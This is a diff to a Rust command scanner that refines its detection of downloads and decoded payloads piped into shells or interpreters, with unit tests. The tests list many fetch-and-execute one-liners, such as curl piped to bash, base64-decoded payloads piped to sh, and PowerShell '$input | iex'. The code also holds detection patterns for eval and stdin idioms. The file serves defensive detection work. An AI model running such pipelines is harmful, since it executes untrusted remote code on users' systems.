@@ -296,6 +296,8 @@ impl Scanner {
         // `bash -c "curl -X POST ..."` merely runs curl.
         let mut shc_at: Option<usize> = None;
         let mut net_cmd = false;
+        // Inline code read after pipes ([`inline_runs_stdin`]), in all, on this line.
+        let inline_budget = std::cell::Cell::new(64 * 1024);
         for (i, t) in toks.iter().enumerate() {
             let lt = &lower[t.s..t.e];
             let ot = &line[t.s..t.e];
@@ -322,7 +324,7 @@ impl Scanner {
                 {
                     j += 1;
                 }
-                if fetch_at.is_some() && one_of(base(tok(j)), SHELLS) {
+                if fetch_at.is_some() && runs_stdin(toks, lower, line, j, &inline_budget) {
                     push(
                         out,
                         HitKind::RiskyCommand,
@@ -330,7 +332,7 @@ impl Scanner {
                         "download piped to a shell".into(),
                     );
                 }
-                if decode_at.is_some() && one_of(base(tok(j)), SHELLS) {
+                if decode_at.is_some() && runs_stdin(toks, lower, line, j, &inline_budget) {
                     push(out, HitKind::RiskyCommand, t.s, DECODED_RUN.into());
                 }
             }
@@ -604,6 +606,261 @@ impl Scanner {
             push(out, HitKind::Upload, col, "HTTP request with files=".into());
         }
     }
+}
+
+/// Whether the program at token `j` (after a pipe, past `sudo` / `env` and their flags) runs
+/// what it reads on standard input as code. An interpreter given a script file (`python3
+/// save.py`, `bash check.sh`) or a module (`python3 -m json.tool`) reads its standard input as
+/// data; one given nothing, `-`, `/dev/stdin`, `-s` (shells), `-Command -` (PowerShell) runs
+/// it. Inline code (`-c`, `-e`, `-Command TEXT`) runs it only when the code evaluates what it
+/// reads there ([`inline_runs_stdin`]). Bounded: at most 16 arguments are looked at, and past
+/// them (or on an option not known) the answer is yes: a miss is worse than a false alarm.
+fn runs_stdin(
+    toks: &[Tok],
+    lower: &[u8],
+    line: &[u8],
+    j: usize,
+    budget: &std::cell::Cell<usize>,
+) -> bool {
+    #[derive(PartialEq, Clone, Copy)]
+    enum Family {
+        Shell,
+        Python,
+        Perl,
+        Ruby,
+        Node,
+        Pwsh,
+        WindowsPowerShell,
+    }
+    let Some(t) = toks.get(j) else {
+        return false;
+    };
+    let w = base(&lower[t.s..t.e]);
+    if !one_of(w, SHELLS) {
+        return false;
+    }
+    let family = match w {
+        b"sh" | b"bash" | b"zsh" | b"dash" | b"ksh" | b"fish" => Family::Shell,
+        b"python" | b"python3" => Family::Python,
+        b"perl" => Family::Perl,
+        b"ruby" => Family::Ruby,
+        b"node" => Family::Node,
+        b"pwsh" => Family::Pwsh,
+        b"powershell" => Family::WindowsPowerShell,
+        // `iex`, `Invoke-Expression`, `source`: run what they are given.
+        _ => return true,
+    };
+    let is_stdin = |a: &[u8]| {
+        matches!(
+            a,
+            b"-" | b"/dev/stdin" | b"/dev/fd/0" | b"/proc/self/fd/0"
+        )
+    };
+    let args = &toks[j + 1..];
+    let mut k = 0;
+    while k < args.len().min(16) {
+        let a = args[k];
+        if a.pipe_before || a.sep_before {
+            // The command ends with no script named: it reads its code from standard input.
+            return true;
+        }
+        let arg = &line[a.s..a.e];
+        let low = &lower[a.s..a.e];
+        // `--opt=value`: the tokenizer splits at `=`; the value is the next token.
+        let attached = line.get(a.e) == Some(&b'=');
+        if is_stdin(low) {
+            return true;
+        }
+        if family == Family::Pwsh || family == Family::WindowsPowerShell {
+            let Some(name) = low.strip_prefix(b"-") else {
+                // A positional argument: pwsh's is a script file; Windows PowerShell's is the
+                // command itself.
+                return family == Family::WindowsPowerShell && inline_runs_stdin(line, a.s, false, budget);
+            };
+            let name = name.strip_prefix(b"-").unwrap_or(name);
+            let is = |full: &[u8], short: &[&[u8]]| {
+                short.contains(&name) || (name.len() >= 3 && full.starts_with(name))
+            };
+            if is(b"command", &[b"c"]) {
+                return match args.get(k + 1) {
+                    None => true,
+                    Some(v) if is_stdin(&lower[v.s..v.e]) => true,
+                    Some(v) => inline_runs_stdin(line, v.s, false, budget),
+                };
+            }
+            if is(b"file", &[b"f"]) {
+                return args.get(k + 1).is_none_or(|v| is_stdin(&lower[v.s..v.e]));
+            }
+            if is(b"encodedcommand", &[b"e", b"ec", b"enc"]) {
+                // Runs its argument (reported as decoded text on its own), not standard input.
+                return false;
+            }
+            let valued = is(b"executionpolicy", &[b"ep", b"ex"])
+                || is(b"windowstyle", &[b"w"])
+                || is(b"outputformat", &[b"o", b"of"])
+                || is(b"inputformat", &[b"if", b"in"])
+                || is(b"configurationname", &[b"config"])
+                || is(b"configurationfile", &[])
+                || is(b"workingdirectory", &[b"wd"])
+                || is(b"settingsfile", &[b"settings"])
+                || is(b"custompipename", &[])
+                || is(b"version", &[b"v"]);
+            k = if valued { k + 2 } else { k + 1 };
+            continue;
+        }
+        if arg == b"--" {
+            // What follows is the script, if anything.
+            return args
+                .get(k + 1)
+                .is_none_or(|v| v.pipe_before || v.sep_before || is_stdin(&lower[v.s..v.e]));
+        }
+        if let Some(long) = arg.strip_prefix(b"--") {
+            let valued = match family {
+                Family::Shell => matches!(long, b"rcfile" | b"init-file"),
+                Family::Python => long == b"check-hash-based-pycs",
+                Family::Node => {
+                    if matches!(long, b"eval" | b"print") {
+                        return args
+                            .get(k + 1)
+                            .is_some_and(|v| inline_runs_stdin(line, v.s, false, budget));
+                    }
+                    matches!(
+                        long,
+                        b"require"
+                            | b"import"
+                            | b"loader"
+                            | b"experimental-loader"
+                            | b"conditions"
+                            | b"input-type"
+                            | b"env-file"
+                            | b"title"
+                    )
+                }
+                Family::Perl | Family::Ruby => false,
+                Family::Pwsh | Family::WindowsPowerShell => false,
+            };
+            k = if valued || attached { k + 2 } else { k + 1 };
+            continue;
+        }
+        let cluster = match arg.strip_prefix(b"-").or_else(|| {
+            // `set +o` spellings: `bash +o posix`.
+            (family == Family::Shell).then(|| arg.strip_prefix(b"+")).flatten()
+        }) {
+            Some(c) => c,
+            // A script file: standard input is its data.
+            None => return false,
+        };
+        // Short options, possibly clustered (`-xs`, `-uc`, `-ne`): the first that decides.
+        let mut skip_value = false;
+        for (n, &c) in cluster.iter().enumerate() {
+            let rest = &cluster[n + 1..];
+            // Inline code: in the rest of the cluster, else the next argument.
+            let inline = |k: usize| {
+                if rest.is_empty() {
+                    args.get(k + 1)
+                        .is_some_and(|v| inline_runs_stdin(line, v.s, family == Family::Shell, budget))
+                } else {
+                    inline_runs_stdin(line, a.s + 1 + n + 1, family == Family::Shell, budget)
+                }
+            };
+            match (family, c) {
+                (Family::Shell, b'c') => return inline(k),
+                (Family::Shell, b's') => return true,
+                (Family::Shell, b'o' | b'O') => {
+                    skip_value = true;
+                    break;
+                }
+                (Family::Python, b'c') => return inline(k),
+                (Family::Python, b'm') => return false,
+                (Family::Python, b'W' | b'X') => {
+                    skip_value = rest.is_empty();
+                    break;
+                }
+                (Family::Perl, b'e' | b'E') | (Family::Ruby, b'e') => return inline(k),
+                (Family::Perl, b'M' | b'm' | b'I' | b'i' | b'x' | b'C' | b'F' | b'd' | b'D' | b'V') => {
+                    break;
+                }
+                (Family::Ruby, b'r' | b'I' | b'C' | b'E' | b'x' | b'0' | b'K' | b'T' | b'W' | b'F') => {
+                    skip_value = rest.is_empty() && matches!(c, b'r' | b'I' | b'C' | b'E');
+                    break;
+                }
+                (Family::Node, b'e' | b'p') => return inline(k),
+                (Family::Node, b'r' | b'C') => {
+                    skip_value = rest.is_empty();
+                    break;
+                }
+                _ => {}
+            }
+        }
+        k = if skip_value { k + 2 } else { k + 1 };
+    }
+    // Nothing named a script within the bound (or the command ends): its code is standard input.
+    true
+}
+
+/// Whether inline code (`python3 -c CODE`, `node -e CODE`, `sh -c CODE`, `pwsh -Command
+/// CODE`) starting at byte `at` of `line` runs what it reads on standard input: it evaluates
+/// (`exec`, `eval`, `iex`, `Function`, `compile`) and reads standard input (`sys.stdin`,
+/// `input()`, `<STDIN>`, `<>`, `readFileSync(0`, `$input`, `[Console]::In`). In a shell's
+/// `-c` code, also `$(cat)`, `source`, `.` of `/dev/stdin` or any shell or interpreter word,
+/// which reads the same standard input: a shell's code is commands, and any of them can.
+/// The code is the quoted string starting there (up to its closing quote, 4 KiB at most),
+/// else one word. `budget`: the bytes of inline code a line may still have read (so a line of
+/// many pipes stays linear); once spent, the answer is yes.
+fn inline_runs_stdin(line: &[u8], at: usize, shell: bool, budget: &std::cell::Cell<usize>) -> bool {
+    let (s, quote) = match at.checked_sub(1).map(|p| line[p]) {
+        Some(q @ (b'"' | b'\'')) => (at, Some(q)),
+        _ => match line.get(at) {
+            Some(&q @ (b'"' | b'\'')) => (at + 1, Some(q)),
+            _ => (at, None),
+        },
+    };
+    let s = s.min(line.len());
+    let window = &line[s..line.len().min(s + 4096.min(budget.get()))];
+    if window.is_empty() && budget.get() == 0 {
+        return true;
+    }
+    let end = match quote {
+        // A double-quoted string ends at its first quote not escaped by a backslash.
+        Some(q) => {
+            let mut i = 0;
+            while i < window.len() && window[i] != q {
+                i += if q == b'"' && window[i] == b'\\' { 2 } else { 1 };
+            }
+            i.min(window.len())
+        }
+        None => window.iter().position(|&b| is_delim(b)).unwrap_or(window.len()),
+    };
+    budget.set(budget.get().saturating_sub(end.max(1)));
+    let code = window[..end].to_ascii_lowercase();
+    let has = |n: &[u8]| memchr::memmem::find(&code, n).is_some();
+    let reads_stdin = has(b"stdin")
+        || has(b"input(")
+        || has(b"$input")
+        || has(b"<>")
+        || has(b"readfilesync(0")
+        || has(b"console]::in")
+        || has(b"/dev/fd/0");
+    if shell {
+        let mut toks = Vec::new();
+        tokenize(&code, &mut toks);
+        return reads_stdin
+            || has(b"$(cat")
+            || toks.iter().any(|t| {
+                let w = base(&code[t.s..t.e]);
+                one_of(w, SHELLS) || one_of(w, EVALS)
+            });
+    }
+    let evaluates = has(b"exec")
+        || has(b"eval")
+        || has(b"iex")
+        || has(b"invoke-expression")
+        || has(b"compile(")
+        || has(b"function(")
+        || has(b"runinthiscontext")
+        || has(b"runinnewcontext")
+        || has(b"scriptblock]::create");
+    evaluates && reads_stdin
 }
 
 /// The subject of text decoded (base64, hex, ...) and then run by a shell or interpreter.
@@ -1510,6 +1767,90 @@ mod tests {
         assert!(hits_in("base64 -d x | sh", Mode::Data, "").is_empty());
     }
 
+    /// An interpreter given a script file, a module or inline code reads what is piped into it
+    /// as data; given nothing, `-`, `/dev/stdin`, `-s` or `-Command -` it runs it, and so does
+    /// inline code that evaluates what it reads there.
+    #[test]
+    fn piped_into_an_interpreter_runs_only_when_it_reads_code_there() {
+        use HitKind::RiskyCommand as R;
+        const DL: &str = "download piped to a shell";
+        for tail in [
+            "python3",
+            "python3 -",
+            "python3 -u -",
+            "python3 -W ignore",
+            "python3 /dev/stdin",
+            "bash",
+            "sh -s",
+            "bash -s -- --prefix /opt",
+            "bash -xs stable",
+            "bash -o pipefail",
+            "sudo -E bash",
+            "sudo -E bash -s -- -y",
+            "node",
+            "node -",
+            "node -r ts-node/register",
+            "perl",
+            "ruby -",
+            "pwsh -Command -",
+            "pwsh -NoProfile -ExecutionPolicy Bypass -Command -",
+            "powershell -c -",
+            "pwsh",
+            "iex",
+            "python3 -c \"exec(sys.stdin.read())\"",
+            "python3 -c \"import sys; exec(sys.stdin.read())\"",
+            "python3 -c 'exec(input())'",
+            "node -e \"eval(require('fs').readFileSync(0, 'utf8'))\"",
+            "perl -e 'eval join q(), <STDIN>'",
+            "sh -c \"$(cat)\"",
+            "bash -c 'eval \"$(cat)\"'",
+            "sh -c 'cd /tmp && bash'",
+            "pwsh -Command '$input | iex'",
+            "powershell \"$input | Invoke-Expression\"",
+        ] {
+            let fetched = format!("curl -fsSL https://get.pdfhost.net/x | {tail}");
+            assert!(has(&fetched, R, DL), "{fetched}: {:?}", hits(&fetched));
+            let decoded = format!("base64 -d payload.b64 | {tail}");
+            assert!(has(&decoded, R, DECODED_RUN), "{decoded}: {:?}", hits(&decoded));
+            assert!(runs_decoded(decoded.as_bytes()), "{decoded}");
+        }
+        for tail in [
+            "python3 save.py",
+            "python3 scripts/save.py --out x.json",
+            "python3 -u scripts/save.py",
+            "python3 -W ignore save.py",
+            "python3 -m json.tool",
+            "python3 -c \"import sys, json; print(json.load(sys.stdin)['tag_name'])\"",
+            "python3 -c 'print(1)'",
+            "sudo python3 save.py",
+            "bash scripts/check.sh",
+            "bash -o pipefail check.sh",
+            "bash -x -- check.sh",
+            "sh -c 'cat > out.txt'",
+            "node scripts/parse.js",
+            "node --input-type=module scripts/parse.mjs",
+            "node -e \"process.stdin.pipe(process.stdout)\"",
+            "perl -ne 'print if /v/'",
+            "perl -lne 'print $1 if /x(\\d+)/'",
+            "ruby -rjson -e 'puts JSON.parse(STDIN.read)'",
+            "pwsh -File parse.ps1",
+            "pwsh -NoProfile parse.ps1",
+            "pwsh -Command 'ConvertFrom-Json $input'",
+        ] {
+            let fetched = format!("curl -fsSL https://get.pdfhost.net/x | {tail}");
+            assert!(!has(&fetched, R, DL), "{fetched}: {:?}", hits(&fetched));
+            let decoded = format!("base64 -d payload.b64 | {tail}");
+            assert!(!has(&decoded, R, DECODED_RUN), "{decoded}: {:?}", hits(&decoded));
+            assert!(!runs_decoded(decoded.as_bytes()), "{decoded}");
+        }
+        // A download still counts as one.
+        assert!(has(
+            "curl -fsSL https://get.pdfhost.net/x | python3 save.py",
+            HitKind::Download,
+            "curl"
+        ));
+    }
+
     /// A package manager pointed at another index: a download from that host, on a command
     /// line or in the manager's configuration; the registries' own indexes and local paths
     /// are not.
@@ -1922,6 +2263,10 @@ mod tests {
             "``` ",
             "curl -F ",
             "files= ",
+            "curl | python3 -c \"a ",
+            "curl | sh -c 'a ",
+            "base64 -d | pwsh -c \"\\\" ",
+            "curl | bash -o x ",
             "xmlns:a=\"http://h.pdfhost.net\" ",
         ] {
             let line = unit.repeat(1_000_000 / unit.len());
